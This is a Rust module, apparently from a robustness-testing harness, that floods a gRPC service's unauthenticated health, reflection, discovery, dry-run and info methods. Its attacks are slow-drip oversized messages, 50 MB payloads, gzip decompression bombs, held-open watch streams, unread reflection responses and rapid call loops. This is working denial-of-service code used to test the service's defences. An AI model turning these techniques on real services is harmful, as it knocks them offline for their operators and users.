//! Attacks on the gRPC methods that are called without admission control: health, reflection, discovery, dry run, info.

use std::io;
use std::time::Duration;

use bytes::Bytes;
use futures_util::{StreamExt as _, stream};

use super::protobuf::{call, send_stream};
use crate::attack::Attacker;
use crate::wire::grpc::{
    CHECK, Channel, DISCOVERY, DRY_RUN, Encoding, INFO, REFLECTION, WATCH, message, prefixed,
};
use crate::wire::protobuf::field;

/// Connections of an attack.
const CONNECTIONS: usize = 10;

/// Length of a message that exceeds the bound of these methods, 4 kB.
const LONG_BYTES: usize = 50_000_000;

/// Pause between the parts of a message that is sent slowly.
const PAUSE: Duration = Duration::from_millis(10);

pub(super) async fn unfinished_checks(attacker: Attacker) {
    let part = Bytes::from_static(&[0; 1024]);
    let chunks = move || {
        let rest = stream::repeat(part.clone()).then(|part| async move {
            tokio::time::sleep(PAUSE).await;
            part
        });
        stream::iter([prefixed(0, LONG_BYTES, &[])]).chain(rest)
    };
    send_stream(attacker, CHECK, CONNECTIONS, chunks).await;
}

pub(super) async fn long_checks(attacker: Attacker) {
    let content = vec![0; attacker.sized(LONG_BYTES)];
    call(attacker, CHECK, Encoding::Identity, content).await;
}

pub(super) async fn compressed_checks(attacker: Attacker) {
    let content = field(1, vec![b'a'; attacker.sized(40_000_000)]);
    call(attacker, CHECK, Encoding::Gzip, content).await;
}

pub(super) async fn watches(attacker: Attacker) {
    let streams = attacker.sized(1000) / CONNECTIONS;
    let session = move |attacker: Attacker| async move {
        let channel = Channel::over(attacker.connect().await?.into_stream()?).await?;
        let mut watches = Vec::new();
        for _ in 0..streams {
            let request = stream::iter([message(Encoding::Identity, &[])]);
            watches.push(channel.clone().call(WATCH, Encoding::Identity, request).await?);
        }
        std::future::pending::<io::Result<()>>().await
    };
    attacker.swarm(CONNECTIONS, session).await;
}

/// A request for the list of services.
fn reflection_request() -> Bytes {
    message(Encoding::Identity, &field(7, "*"))
}

pub(super) async fn reflection(attacker: Attacker) {
    let chunks = || stream::repeat(reflection_request());
    send_stream(attacker, REFLECTION, 64, chunks).await;
}

pub(super) async fn unread_reflection(attacker: Attacker) {
    let session = |attacker: Attacker| async move {
        let mut channel = Channel::over(attacker.connect().await?.into_stream()?).await?;
        let chunks = stream::repeat(reflection_request());
        let response = channel.call(REFLECTION, Encoding::Identity, chunks).await?;
        std::future::pending::<()>().await;
        drop(response);
        Ok(())
    };
    attacker.swarm(64, session).await;
}

pub(super) async fn dry_runs(attacker: Attacker) {
    let session = |attacker: Attacker| async move {
        let mut channel = Channel::over(attacker.connect().await?.into_stream()?).await?;
        let empty = message(Encoding::Identity, &[]);
        loop {
            for path in [DRY_RUN, DISCOVERY, INFO] {
                attacker.traffic.sent(empty.len());
                channel.unary(path, Encoding::Identity, stream::iter([empty.clone()])).await?;
            }
        }
    };
    attacker.swarm(64, session).await;
}
